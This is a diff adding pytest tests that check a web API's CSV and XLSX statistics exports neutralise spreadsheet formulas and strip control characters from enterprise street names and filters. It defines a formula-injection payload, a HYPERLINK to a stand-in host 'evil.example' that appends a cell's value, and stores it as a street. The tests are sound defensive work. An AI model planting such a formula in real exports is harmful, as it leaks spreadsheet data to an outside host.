@@ -4,8 +4,14 @@ characters and formulas in exports, visits no one could submit, wildcards in sea
 Out-of-range numbers and dates: tests/server/test_bounded_input.py; the whole API fuzzed: test_schemathesis.py.
 """
 
+import csv
+import io
+import uuid
 
 import pytest
+from openpyxl import load_workbook
+
+from tests import factories
 
 API = "/api/v1"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -50,4 +56,72 @@ def test_contact_update_with_empty_strings_clears_them(client, world):
                             json={"contact_name": "", "contact_phone": ""}, headers=world.headers("enterprise_a"))
     assert response.status_code == 200, response.text
     assert (response.json()["contact_name"], response.json()["contact_phone"]) == ("", "")
+
+
+# --- exports: control characters and formulas --------------------------------------------------------------
+
+def _hazard_at(client, world, session, enterprise):
+    photo = factories.make_photo(session, world.users["inspector"])
+    session.commit()
+    visit = client.post(f"{API}/visits", json={"enterprise_id": enterprise.id,
+                                               "inspector_ids": [world.users["inspector2"].id]},
+                        headers=world.headers("inspector")).json()
+    sections = client.get(f"{API}/visits/{visit['id']}/checklist", headers=world.headers("inspector")).json()
+    codes = [i["code"] for s in sections["sections"] for i in s["items"]]
+    results = [{"item_code": c, "result": "fail", "photo_ids": [photo.id]} if i == 0 else
+               {"item_code": c, "result": "pass"} for i, c in enumerate(codes)]
+    out = client.post(f"{API}/visits/{visit['id']}/submissions",
+                      json={"client_uuid": str(uuid.uuid4()), "results": results}, headers=world.headers("inspector"))
+    assert out.status_code == 201, out.text
+
+
+@pytest.fixture()
+def evil_street(client, world, session):
+    """Enterprise A's street is a formula, then a hazard is found there (hazards keep the street they had)."""
+    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"street": EVIL},
+                            headers=world.headers("office"))
+    assert response.status_code == 200, response.text
+    _hazard_at(client, world, session, world.enterprise_a)
+
+
+def _export(client, world, fmt, **params):
+    response = client.get(f"{API}/stats/closure", params={"format": fmt, **params}, headers=world.headers("office"))
+    assert response.status_code == 200, response.text
+    return response.content
+
+
+def test_csv_export_neutralises_a_formula_in_a_street(client, world, evil_street):
+    rows = list(csv.reader(io.StringIO(_export(client, world, "csv", group_by="street").decode("utf-8-sig"))))
+    streets = [row[0] for row in rows[1:-1]]
+    assert streets == ["'" + EVIL]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_xlsx_export_stores_a_formula_in_a_street_as_text(client, world, evil_street):
+    book = load_workbook(io.BytesIO(_export(client, world, "xlsx", group_by="street", street=[EVIL, "+1"])))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert book["统计"]["A2"].value == "'" + EVIL
+    assert book["统计"]["A2"].data_type == "s"
+    filters = next(row[1].value for row in book["指标口径"].iter_rows() if row[0].value == "筛选 / filters")
+    assert filters == f"street={EVIL},+1"
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_control_characters_in_a_filter_are_dropped_from_the_export(client, world, fmt):
+    response = client.get(f"{API}/stats/closure?format={fmt}&street=%01x&street=%1b%7f%0b",
+                          headers=world.headers("office"))
+    assert response.status_code == 200, response.text
+    if fmt == "xlsx":
+        book = load_workbook(io.BytesIO(response.content))
+        filters = next(row[1].value for row in book["指标口径"].iter_rows() if row[0].value == "筛选 / filters")
+        assert filters == "street=x,\x7f"
+
+
+def test_a_street_with_control_characters_exports(client, world, session):
+    client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"street": "三井\x01街道\x1f"},
+                 headers=world.headers("office"))
+    _hazard_at(client, world, session, world.enterprise_a)
+    book = load_workbook(io.BytesIO(_export(client, world, "xlsx", group_by="street")))
+    assert book["统计"]["A2"].value == "三井街道"
 
